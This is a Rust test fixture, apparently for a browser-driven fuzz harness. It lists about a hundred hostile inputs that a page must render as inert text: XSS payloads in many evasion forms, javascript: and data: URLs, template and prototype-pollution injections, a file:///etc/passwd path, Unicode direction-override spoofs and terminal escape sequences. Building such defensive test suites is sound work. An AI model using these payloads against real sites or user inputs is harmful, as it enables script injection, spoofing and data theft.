//! Texts of other people that try to be more than text.
//!
//! Each marks `window.__pwned` or opens a dialog when it is executed, which the driver takes for a fault
//! ([`browser::FaultKind::Executed`]); or it tries to load something from elsewhere, or to look like what it is not.

/// Markup and script in every form that a page could take for its own.
const MARKUP: [&str; 50] = [
    "<script>window.__pwned=1</script>",
    "<script src=//127.0.0.1:9/a.js></script>",
    "<script type=module>window.__pwned=1</script>",
    "</script><script>window.__pwned=1</script>",
    "</textarea><script>window.__pwned=1</script>",
    "</title><script>window.__pwned=1</script>",
    "</style><script>window.__pwned=1</script>",
    "--><script>window.__pwned=1</script>",
    "]]><script>window.__pwned=1</script>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "<ScRiPt>window.__pwned=1</sCrIpT>",
    "<script\u{2028}>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    "<img src=x onerror=\"alert(1)\">",
    "<img/src=x/onerror=window.__pwned=1>",
    "<img src=`x`onerror=window.__pwned=1>",
    "<img srcset=x onerror=window.__pwned=1>",
    "<img src=http://127.0.0.1:9/pixel.png>",
    "\"><img src=x onerror=window.__pwned=1>",
    "'><img src=x onerror=window.__pwned=1>",
    "\" onmouseover=window.__pwned=1 x=\"",
    "' onfocus=window.__pwned=1 autofocus x='",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.__pwned=1><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe onload=window.__pwned=1></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    "<body onload=window.__pwned=1>",
    "<details open ontoggle=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<audio src=x onerror=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<select autofocus onfocus=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>",
    "<div style=\"animation-name:x\" onanimationstart=window.__pwned=1>",
    "<iframe src=javascript:window.__pwned=1>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\">",
    "<object data=javascript:window.__pwned=1>",
    "<embed src=javascript:window.__pwned=1>",
    "<a href=javascript:window.__pwned=1>x</a>",
    "<form action=javascript:window.__pwned=1><button>x</button></form>",
    "<button formaction=javascript:window.__pwned=1>x</button>",
    "<base href=http://127.0.0.1:9/>",
    "<meta http-equiv=refresh content=\"0;url=http://127.0.0.1:9/\">",
    "<link rel=stylesheet href=http://127.0.0.1:9/a.css>",
    "<style>@import 'http://127.0.0.1:9/a.css';</style>",
    "<template><script>window.__pwned=1</script></template>",
    "<xss contenteditable onblur=window.__pwned=1 autofocus>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
];

/// Addresses, and the languages of templates, of formats and of the page's own texts.
const SYNTAX: [&str; 28] = [
    "javascript:window.__pwned=1",
    "java\u{9}script:window.__pwned=1",
    "JaVaScRiPt:window.__pwned=1//http://a.example",
    "http://127.0.0.1:9/javascript:window.__pwned=1",
    "data:text/html,<script>window.__pwned=1</script>",
    "vbscript:window.__pwned=1",
    "file:///etc/passwd",
    "https://user:password@127.0.0.1:9/%00",
    "https://a.example/\"onmouseover=\"window.__pwned=1",
    "[x](javascript:window.__pwned=1)",
    "![x](http://127.0.0.1:9/pixel.png)",
    "<http://127.0.0.1:9/>",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "${window.__pwned=1}",
    "`${window.__pwned=1}`",
    "<%= window.__pwned=1 %>",
    "#{window.__pwned=1}",
    "{name} {count} {0}",
    "%s%n%d%x",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.__pwned=1&#x3e;",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "\\x3cscript\\x3ewindow.__pwned=1\\x3c/script\\x3e",
    "{\"__proto__\":{\"polluted\":true}}",
    "__proto__",
    "constructor",
    "');window.__pwned=1;//",
];

/// Letters that hide, turn or pile up: direction overrides and isolates that are not closed, NUL and other controls,
/// invisible and joined letters, marks without end, halves of letters, and letters that look like markup.
const UNICODE: [&str; 16] = [
    "\u{202E}gnp.exe\u{202C} \u{202E}<script>window.__pwned=1</script>",
    "\u{2066}\u{2067}\u{2068}never closed",
    "\u{200F}right\u{200E}left\u{061C}",
    "nul\0<script>window.__pwned=1</script>",
    "bell\u{7} escape\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://127.0.0.1:9/\u{1b}\\link\u{1b}]8;;\u{1b}\\",
    "carriage\rreturn\u{b}vertical\u{c}form",
    "zero\u{200B}width\u{200B}<\u{200B}script\u{200B}>",
    "\u{FEFF}\u{2060}\u{00AD}\u{3164}\u{115F}",
    "Z\u{0300}\u{0301}\u{0302}\u{0303}\u{0304}\u{0305}\u{0306}\u{0307}\u{0308}\u{0309}\u{030A}\u{030B}\u{030C}\u{030D}",
    "＜script＞window.__pwned=1＜/script＞",
    "‹script›window.__pwned=1‹/script›",
    "\u{FFFE}\u{FFFF}\u{1FFFE}",
    "👩\u{200D}👩\u{200D}👧\u{200D}👦 🏳\u{FE0F}\u{200D}🌈 👍🏽 \u{1F1E9}\u{1F1EA}",
    "سلام \u{202E}abc\u{202C} می\u{200C}خواهم",
    "\u{E0001}\u{E0061}\u{E007F}tags",
];

/// All of them, and some that are long.
pub fn payloads() -> Vec<String> {
    let short = MARKUP.iter().chain(&SYNTAX).chain(&UNICODE).map(|text| (*text).to_owned());
    let long = [
        "<b>".repeat(5_000),
        "A".repeat(20_000),
        "<img src=x onerror=window.__pwned=1>".repeat(500),
        format!("{}x", "x\u{0489}".repeat(3_000)),
        "line\n".repeat(2_000),
        "\u{202E}\u{2067}".repeat(2_000),
    ];
    short.chain(long).collect()
}

/// Those that can stand in a name of one line, like a group's title or a device's name.
pub fn names(longest: usize) -> Vec<String> {
    let one_line = |text: &String| text.len() <= longest && !text.contains(char::is_control);
    payloads().into_iter().filter(one_line).collect()
}

#[test]
fn there_are_enough_of_them_and_none_twice() {
    let all: std::collections::BTreeSet<String> = payloads().into_iter().collect();
    assert_eq!(all.len(), payloads().len());
    assert!(all.len() >= 60 && names(128).len() >= 60, "{} {}", all.len(), names(128).len());
}
